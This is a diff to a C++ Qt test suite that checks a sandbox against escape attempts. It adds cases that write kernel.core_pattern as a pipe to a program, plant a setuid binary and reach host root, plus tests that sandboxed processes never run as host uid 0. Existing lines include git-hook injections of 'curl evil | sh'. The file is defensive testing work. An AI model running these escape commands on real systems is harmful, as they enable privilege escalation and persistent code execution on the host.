@@ -14,10 +14,12 @@
 #include <QCryptographicHash>
 #include <QDirIterator>
 #include <QProcess>
+#include <QSignalSpy>
 #include <QTcpServer>
 #include <QTest>
 
 #include <fcntl.h>
+#include <sys/stat.h>
 #include <sys/socket.h>
 #include <sys/un.h>
 #include <unistd.h>
@@ -41,6 +43,8 @@ enum class Check {
     OutputFlood,    // capped and stopped
     MemoryBomb,     // killed or refused near the limit
     ControlIntact,  // the control socket is there and the shim still answers
+    CorePattern,    // kernel.core_pattern on the host is what it was
+    NoSetuidFile,   // no set-user-ID or set-group-ID file of host root appeared
 };
 
 struct Attack
@@ -74,6 +78,11 @@ const Attack kAttacks[] = {
     {"replace the shim binary", R"(cp /bin/true /airlock/shim 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
     {"tamper with the control folder", R"(r=BLOCKED; echo x > /airlock/control/evil 2>/dev/null && r=ESCAPED; ln -s / /airlock/control/root 2>/dev/null && r=ESCAPED; for f in /airlock/control/*.sock; do [ -S "$f" ] || continue; rm -f "$f" 2>/dev/null; [ -S "$f" ] || r=ESCAPED; done; echo $r)", Check::ControlIntact},
     {"write a kernel setting in /proc/sys", R"(echo 1 > /proc/sys/kernel/sysrq 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
+    // Host root through the kernel: settings that are host-wide and checked by uid, not by capability
+    {"write kernel.core_pattern (a pipe the kernel runs as host root)", R"(echo '|/bin/true airlock-escape %p' > /proc/sys/kernel/core_pattern 2>/dev/null && echo ESCAPED || echo BLOCKED)", Check::CorePattern},
+    {"write back host-wide kernel settings", R"("$ATTACK" sysctl)", Check::CorePattern},
+    {"open kernel triggers for writing", R"("$ATTACK" kernel-triggers)"},
+    {"plant a set-user-ID program with chmod", R"(cp "$ATTACK" "$SCRATCH/suid-chmod" 2>/dev/null; chmod 6755 "$SCRATCH/suid-chmod" 2>/dev/null; echo "BLOCKED? the host checks")", Check::NoSetuidFile},
     // Files that run on the host later
     {"write .git/hooks/pre-commit", R"(echo 'curl evil | sh' >> "$WS/.git/hooks/pre-commit" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
     {"add a new git hook", R"(echo 'curl evil | sh' > "$WS/.git/hooks/post-checkout" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
@@ -162,6 +171,8 @@ private Q_SLOTS:
     void attack_data();
     void attack();
     void hostApiStaysInTheWorkspace();
+    void sandboxedCodeIsNeverHostRoot();
+    void rootOwnedHostFolderStaysReadOnly();
     void controlRunCatchesAWeakPolicy_data();
     void controlRunCatchesAWeakPolicy();
 
@@ -178,10 +189,27 @@ private:
     QTcpServer m_listener;
     QProcess m_victim;
     QByteArray m_oldHome;
+    QByteArray m_corePattern;
+
+    static QByteArray readSmall(const QString &path)
+    {
+        QFile f(path);
+        return f.open(QIODevice::ReadOnly) ? f.read(4096) : QByteArray();
+    }
+    // An attack that got through must not leave the host's crash handler in its hands.
+    void restoreCorePattern() const
+    {
+        if (m_corePattern.isEmpty())
+            return;
+        QFile f(QStringLiteral("/proc/sys/kernel/core_pattern"));
+        if (f.open(QIODevice::WriteOnly))
+            f.write(m_corePattern);
+    }
 };
 
 void TestEscape::initTestCase()
 {
+    m_corePattern = readSmall(QStringLiteral("/proc/sys/kernel/core_pattern"));
     m_target = makeEscapeTarget();
     if (const QString why = m_target->unavailable(); !why.isEmpty())
         QSKIP(qPrintable(why));
@@ -220,6 +248,8 @@ void TestEscape::initTestCase()
 
 void TestEscape::cleanupTestCase()
 {
+    if (readSmall(QStringLiteral("/proc/sys/kernel/core_pattern")) != m_corePattern)
+        restoreCorePattern();
     m_victim.kill();
     m_victim.waitForFinished();
     if (m_abstractFd >= 0)
@@ -257,7 +287,8 @@ QMap<QString, QByteArray> TestEscape::hostState() const
             ++it;
     }
     for (const QString &path : {QStringLiteral("/etc/hosts"), QStringLiteral("/etc/passwd"),
-                                QStringLiteral("/proc/sys/kernel/sysrq"), QStringLiteral(AIRLOCK_SHIM_PATH)})
+                                QStringLiteral("/proc/sys/kernel/sysrq"), QStringLiteral("/proc/sys/kernel/core_pattern"),
+                                QStringLiteral("/proc/sys/kernel/modprobe"), QStringLiteral(AIRLOCK_SHIM_PATH)})
         state.insert(path, hashOf(path));
     char host[256] = {};
     ::gethostname(host, sizeof host - 1);
@@ -285,6 +316,22 @@ void TestEscape::attack()
     const bool hadSocket = QFileInfo::exists(controlDir + QStringLiteral("/shim.sock"));
     const QString ws = m_target->workspace();
     const Outcome o = runAttack(s, a);
+    // Undone before any verdict: a crash handler of the sandbox's choosing, or a set-id root file
+    // left on the host, must not outlive a failed test.
+    const QByteArray corePattern = readSmall(QStringLiteral("/proc/sys/kernel/core_pattern"));
+    if (corePattern != m_corePattern)
+        restoreCorePattern();
+    QString setuidFound;
+    for (const char *name : {"suid-chmod"}) {
+        const QString path = m_target->scratch() + u'/' + QLatin1StringView(name);
+        struct stat st{};
+        if (::lstat(QFile::encodeName(path).constData(), &st) != 0)
+            continue; // inside a container's own /tmp, or never made
+        QFile::remove(path);
+        if ((st.st_mode & (S_ISUID | S_ISGID)) && (st.st_uid == 0 || st.st_gid == 0))
+            setuidFound += QStringLiteral("%1 on the host is set-id root: mode %2, owner %3:%4; ")
+                               .arg(path).arg(st.st_mode & 07777, 0, 8).arg(st.st_uid).arg(st.st_gid);
+    }
     QVERIFY2(o.status, qPrintable(o.error ? o.error->message : QStringLiteral("no exit status")));
     const QByteArray text = o.out.left(2000) + o.err.left(2000);
     QVERIFY2(!o.out.contains("ESCAPED"), text.constData());
@@ -322,6 +369,13 @@ void TestEscape::attack()
         break;
     case Check::SmallBigFile:
         QVERIFY(!QFileInfo::exists(ws + QStringLiteral("/big")));
+        break;
+    case Check::CorePattern:
+        QVERIFY2(corePattern == m_corePattern,
+                 qPrintable(QStringLiteral("kernel.core_pattern on the host became: ") + QString::fromUtf8(corePattern)));
+        break;
+    case Check::NoSetuidFile:
+        QVERIFY2(setuidFound.isEmpty(), qPrintable(setuidFound));
         break;
     case Check::ControlIntact: {
         QCOMPARE(QFileInfo::exists(controlDir + QStringLiteral("/shim.sock")), hadSocket);
@@ -424,6 +478,108 @@ void TestEscape::hostApiStaysInTheWorkspace()
     QVERIFY(m_target->destroy(s));
     const QMap<QString, QByteArray> after = hostState();
     QCOMPARE(after, before);
+}
+
+namespace {
+
+// The process and all its descendants, from one scan of /proc.
+QList<qint64> processTree(qint64 root)
+{
+    QMultiHash<qint64, qint64> children;
+    const QStringList pids = QDir(QStringLiteral("/proc")).entryList(QDir::Dirs | QDir::NoDotAndDotDot);
+    for (const QString &pid : pids) {
+        QFile stat(QStringLiteral("/proc/%1/stat").arg(pid));
+        if (!stat.open(QIODevice::ReadOnly))
+            continue;
+        const QByteArray text = stat.readAll();
+        const qsizetype close = text.lastIndexOf(')');
+        const QList<QByteArray> fields = text.mid(close + 2).split(' ');
+        if (close > 0 && fields.size() > 1)
+            children.insert(fields.at(1).toLongLong(), pid.toLongLong());
+    }
+    QList<qint64> out{root};
+    for (qsizetype i = 0; i < out.size(); ++i)
+        out += children.values(out.at(i));
+    return out;
+}
+
+// "Uid:\treal\teffective\tsaved\tfs" as the host sees it.
+QList<qint64> idsOf(qint64 pid, const char *field)
+{
+    QFile status(QStringLiteral("/proc/%1/status").arg(pid));
+    if (!status.open(QIODevice::ReadOnly))
+        return {};
+    for (const QByteArray &line : status.readAll().split('\n')) {
+        if (!line.startsWith(field))
+            continue;
+        QList<qint64> ids;
+        for (const QByteArray &word : line.mid(qstrlen(field)).simplified().split(' '))
+            ids << word.toLongLong();
+        return ids;
+    }
+    return {};
+}
+
+} // namespace
+
+// What the kernel checks by uid (/proc/sys, files of root on the host) is only safe if no sandboxed
+// process is host uid 0: not the sandbox's first process, not a command it runs, not bwrap itself.
+void TestEscape::sandboxedCodeIsNeverHostRoot()
+{
+    Sandbox *s = m_target->start(m_target->policy());
+    QVERIFY(s);
+    ExecRequest r;
+    r.argv = {QStringLiteral("/bin/sh"), QStringLiteral("-c"), QStringLiteral("echo ready; exec sleep 60")};
+    Result<SandboxProcess *> p = s->exec(r);
+    QVERIFY2(p, qPrintable(p ? QString() : p.error().message));
+    QSignalSpy ready(*p, &SandboxProcess::stdoutReceived);
+    QVERIFY(ready.wait(10000));
+    QTRY_VERIFY_WITH_TIMEOUT(s->info().hostPid > 0, 10000);
+    const qint64 hostPid = s->info().hostPid;
+    const QList<qint64> tree = processTree(hostPid);
+    qInfo("uid mapping %s, %lld processes from host pid %lld", qPrintable(s->info().uidMapping), qint64(tree.size()), hostPid);
+    QVERIFY2(tree.size() >= 2, "the sandbox's processes are not visible from the host");
+    bool sawSleep = false;
+    for (qint64 pid : tree) {
+        QFile comm(QStringLiteral("/proc/%1/comm").arg(pid));
+        const QByteArray name = comm.open(QIODevice::ReadOnly) ? comm.readAll().trimmed() : QByteArray();
+        sawSleep = sawSleep || name == "sleep";
+        const QList<qint64> uids = idsOf(pid, "Uid:");
+        const QList<qint64> gids = idsOf(pid, "Gid:");
+        if (uids.isEmpty())
+            continue; // ended meanwhile
+        QVERIFY2(!uids.contains(0), qPrintable(QStringLiteral("host pid %1 (%2) runs as host uid 0: Uid %3")
+                                                   .arg(pid).arg(QString::fromUtf8(name)).arg(QString::fromUtf8(QByteArray::number(uids.value(0))))));
+        QVERIFY2(!gids.contains(0), qPrintable(QStringLiteral("host pid %1 (%2) runs with host gid 0").arg(pid).arg(QString::fromUtf8(name))));
+    }
+    QVERIFY(sawSleep);
+    // What the sandbox is told matches: the uid mapping names a host uid that is not 0.
+    QVERIFY(!s->info().uidMapping.isEmpty());
+    QVERIFY2(!s->info().uidMapping.section(QStringLiteral(" -> "), 1).startsWith(u'0'), qPrintable(s->info().uidMapping));
+    QVERIFY(m_target->destroy(s));
+}
+
+// A folder of host root that a policy shares read-write is still root's: the sandbox cannot write it.
+void TestEscape::rootOwnedHostFolderStaysReadOnly()
+{
+    if (::geteuid() != 0)
+        QSKIP("needs root to own the shared folder (this run is unprivileged)");
+    const QString shared = m_target->root() + QStringLiteral("/root-owned");
+    QVERIFY(QDir().mkpath(shared));
+    ::chmod(QFile::encodeName(shared).constData(), 0755);
+    writeFile(shared + QStringLiteral("/keep.txt"), "root's\n");
+    const QMap<QString, QByteArray> before = hostState();
+    // The preset's own user (writable() is the launcher's uid on Docker, which here is root).
+    policy::Policy p = m_target->policy();
+    p.filesystem.mounts.append(policy::Mount{shared, QStringLiteral("/srv/shared"), policy::Access::ReadWrite});
+    Sandbox *s = m_target->start(p);
+    QVERIFY(s);
+    const Outcome o = sh(s, QStringLiteral("r=BLOCKED; echo pwned >> /srv/shared/keep.txt 2>/dev/null && r=ESCAPED; "
+                                           "touch /srv/shared/new 2>/dev/null && r=ESCAPED; "
+                                           "chmod 777 /srv/shared 2>/dev/null && r=ESCAPED; echo $r"));
+    QVERIFY(m_target->destroy(s));
+    QVERIFY2(o.out.contains("BLOCKED"), QByteArray(o.out + o.err).constData());
+    QCOMPARE(hostState(), before);
 }
 
 QTEST_GUILESS_MAIN(TestEscape)
